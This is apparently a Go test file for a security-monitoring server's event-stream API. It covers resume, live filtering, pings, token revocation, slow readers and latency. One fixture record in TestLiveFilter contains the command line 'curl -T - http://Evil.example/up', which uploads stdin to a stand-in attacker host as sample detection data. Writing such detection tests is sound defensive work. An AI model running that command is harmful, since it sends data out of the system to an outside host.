package api_test

import (
	"bufio"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"picket/api"
	"picket/event"
)

// tail opens a stream and returns its lines.
func tail(t *testing.T, hs *httptest.Server, token, query, last string) <-chan string {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	r, _ := http.NewRequestWithContext(ctx, "GET", hs.URL+"/api/v1/stream"+query, nil)
	r.Header.Set("Authorization", "Bearer "+token)
	if last != "" {
		r.Header.Set("Last-Event-ID", last)
	}
	resp, err := hs.Client().Do(r)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); resp.Body.Close() })
	lines := make(chan string, 10000)
	go func() {
		defer close(lines)
		sc := bufio.NewScanner(resp.Body)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			lines <- sc.Text()
		}
	}()
	if first := <-lines; first != "retry: 1000" {
		t.Fatalf("stream begins with %q", first)
	}
	return lines
}

// until reads lines up to one that begins with prefix.
func until(t *testing.T, lines <-chan string, prefix string) string {
	t.Helper()
	end := time.After(5 * time.Second)
	for {
		select {
		case l, ok := <-lines:
			if !ok {
				t.Fatalf("the stream ended before %q", prefix)
			}
			if strings.HasPrefix(l, prefix) {
				return l
			}
		case <-end:
			t.Fatalf("no line %q", prefix)
		}
	}
}

func streaming(t *testing.T, opt api.Options) (*api.Server, *httptest.Server, string) {
	t.Helper()
	s := newServer(t, opt)
	hs := httptest.NewServer(s.Handler())
	t.Cleanup(func() { s.Close(); hs.Close() })
	return s, hs, rolesOf(t, s)[api.Viewer]
}

func TestStreamResumesAndSaysWhenItCannot(t *testing.T) {
	s, hs, token := streaming(t, api.Options{})
	a := tail(t, hs, token, "", "")
	until(t, a, "event: hello")
	s.PublishIncident(event.Incident{ID: "one"})
	id := strings.TrimPrefix(until(t, a, "id: "), "id: ")
	s.PublishFinding(event.Finding{ID: "two"})
	s.PublishAgent(api.Agent{Host: "three"})
	s.PublishHealth(api.Report{Status: "ok"})
	for _, name := range []string{"finding", "fleet", "health"} {
		until(t, a, "event: "+name)
	}

	b := tail(t, hs, token, "", id)
	until(t, b, "event: finding")
	if data := until(t, b, "data: "); !strings.Contains(data, `"two"`) {
		t.Errorf("resumed with %s", data)
	}
	until(t, b, "event: health")
	for range 2000 {
		s.PublishIncident(event.Incident{ID: "many"})
	}
	for _, old := range []string{id, "other-5", "x", "-"} {
		until(t, tail(t, hs, token, "", old), "event: reset")
	}
}

func TestStreamOfLiveEvents(t *testing.T) {
	s, hs, token := streaming(t, api.Options{})
	if s.WantsEvents() {
		t.Error("somebody watches before anybody came")
	}
	plain := tail(t, hs, token, "", "")
	live := tail(t, hs, token, "?events=1&q="+"process.name:curl", "")
	until(t, live, "event: hello")
	until(t, plain, "event: hello")
	s.PublishEvent(json.RawMessage(`{"process.name":"tar"}`))
	s.PublishEvent(json.RawMessage("{\"process.name\":\"CURL\",\n\"x\":\"<b>\\n\"}"))
	s.PublishIncident(event.Incident{ID: "i"})
	until(t, live, "event: event")
	if data := until(t, live, "data: "); data != `data: {"process.name":"CURL","x":"<b>\n"}` {
		t.Errorf("%s", data)
	}
	for l := range plain {
		if l == "event: event" {
			t.Error("a stream that did not ask got live events")
		}
		if l == "event: incident" {
			break
		}
	}
	if w := httptest.NewRecorder(); true {
		r := httptest.NewRequest("GET", "http://localhost/api/v1/stream?events=1&q=a+or+b", nil)
		r.Header.Set("Authorization", "Bearer "+token)
		if s.Handler().ServeHTTP(w, r); w.Code != 400 {
			t.Errorf("bad query: %d", w.Code)
		}
	}
}

func TestStreamPingsAndEndsWithTheRight(t *testing.T) {
	fakeNow := &clock{t: time.Now()}
	s, fake := newFake(t, api.Options{Ping: 20 * time.Millisecond, Now: fakeNow.now})
	hs := httptest.NewServer(s.Handler())
	defer func() { s.Close(); hs.Close() }()
	secret, tok, err := s.NewToken(t.Context(), "t", api.Viewer, 0, "x")
	if err != nil {
		t.Fatal(err)
	}
	lines := tail(t, hs, secret, "", "")
	until(t, lines, ": ping")
	if err := fake.RemoveToken(t.Context(), tok.ID); err != nil {
		t.Fatal(err)
	}
	end := time.After(5 * time.Second)
	for {
		select {
		case _, ok := <-lines:
			if !ok {
				return
			}
		case <-end:
			t.Fatal("a revoked token keeps its stream")
		}
	}
}

func TestSlowReaderIsCutOffAndHoldsUpNobody(t *testing.T) {
	s, hs, token := streaming(t, api.Options{})
	conn, err := net.Dial("tcp", hs.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.(*net.TCPConn).SetReadBuffer(4096)
	conn.Write([]byte("GET /api/v1/stream HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token + "\r\n\r\n"))
	for s.Readers() == 0 {
		time.Sleep(time.Millisecond)
	}
	big := event.Incident{ID: "big", Summary: strings.Repeat("x", 100<<10)}
	begin := time.Now()
	n := 0
	for ; n < 3000 && s.Readers() > 0; n++ {
		s.PublishIncident(big)
	}
	if d := time.Since(begin); d > 15*time.Second {
		t.Errorf("a reader that does not read held up %d messages for %v", n, d)
	}
	if s.Readers() != 0 {
		t.Error("a reader that does not read was not cut off")
	}
}

func TestStreamIsImmediate(t *testing.T) {
	s, hs, token := streaming(t, api.Options{})
	lines := tail(t, hs, token, "", "")
	until(t, lines, "event: hello")
	var took []time.Duration
	for range 200 {
		begin := time.Now()
		s.PublishIncident(event.Incident{ID: "x"})
		until(t, lines, "data: {\"id\":\"x\"")
		took = append(took, time.Since(begin))
	}
	slices.Sort(took)
	t.Logf("publish to read: p50 %v, p99 %v", took[100], took[198])
	if took[100] > 10*time.Millisecond {
		t.Errorf("p50 is %v", took[100])
	}
}

func TestLiveFilter(t *testing.T) {
	record := `{"process.name":"curl","process.cmdline":"curl -T - http://Evil.example/up","file.path":""}`
	for q, want := range map[string]bool{
		"": true, "*": true, "curl": true, "CURL": true, "evil.example": true, `"http://evil"`: true, "nothing": false,
		"process.name:curl": true, "process.name:tar": false, "-tar": true, "!curl": false, "curl and evil": true,
		"process.name:curl -process.cmdline:evil": false, `process.cmdline:"-T -"`: true, "file.path:*": true, "no.such:*": false,
	} {
		if got, err := api.Tail(q, record); err != nil || got != want {
			t.Errorf("%q: %t, %v", q, got, err)
		}
	}
	for _, q := range []string{`"open`, "a or b", "a | stats count()", strings.Repeat("x ", 20), "(a)"} {
		if _, err := api.Tail(q, record); err == nil {
			t.Errorf("%q is taken", q)
		}
	}
}

func FuzzLiveFilter(f *testing.F) {
	f.Add(`a:"b c" -d`, `{"a":"b"}`)
	f.Fuzz(func(_ *testing.T, q, record string) { _, _ = api.Tail(q, record) })
}
